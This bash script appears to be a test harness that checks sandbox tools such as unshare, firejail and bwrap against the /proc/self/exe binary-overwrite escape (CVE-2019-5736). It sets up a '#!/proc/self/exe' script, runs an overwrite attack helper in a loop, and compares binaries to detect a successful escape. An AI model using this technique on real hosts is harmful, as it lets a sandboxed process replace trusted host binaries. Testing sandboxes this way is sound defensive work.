# The program that made the sandbox, overwritten by /proc/PID/exe of a process that executes it inside: whoever starts
# the next one on the host starts the attacker's. CVE-2019-5736, CVE-2019-12499
# shellcheck shell=bash disable=SC2034,SC2154

open='unshare --fork' user_open=$open

prepare() {
    mkdir -p /run/tools
    tool=$(tool)
    cp "$(command -v "$tool")" /run/tools
    given /run/tools
    PATH=/run/tools:$PATH
    printf '#!/proc/self/exe\n' >/srv/attacks/itself
    chmod +x /srv/attacks/itself
    stat -c %d /run/tools >/srv/attacks/device
}

# What makes the sandbox here.
tool() {
    case $way in
        open | user-open) echo unshare ;;
        firejail | bwrap) echo "$way" ;;
        *) echo jail ;;
    esac
}

launch() {
    case $way in open | user-open) resident & ;; esac
    local status
    for ((round = 0; round < rounds / 5; round++)); do
        status=0
        "$@" >/run/said || status=$?
        # What is executed last is its own program, by a script that names that as its interpreter.
        case $way in jail-* | user-run | user-join) "${@:1:$#-3}" /srv/attacks/itself 2>/run/said-itself || true ;; esac
    done
    cat /run/said
    case $way in open | user-open) wait $! ;; esac
    return $status
}

# Whoever is there when another one comes in.
resident() { attack_for 1000000; }
attack() { attack_for 20; }
attack_for() { exec attack exe-overwrite "$(cat /srv/attacks/device)" "$1"; }

harm() { ! cmp -s "/run/tools/$tool" "$(PATH=${PATH#*:} command -v "$tool")"; }
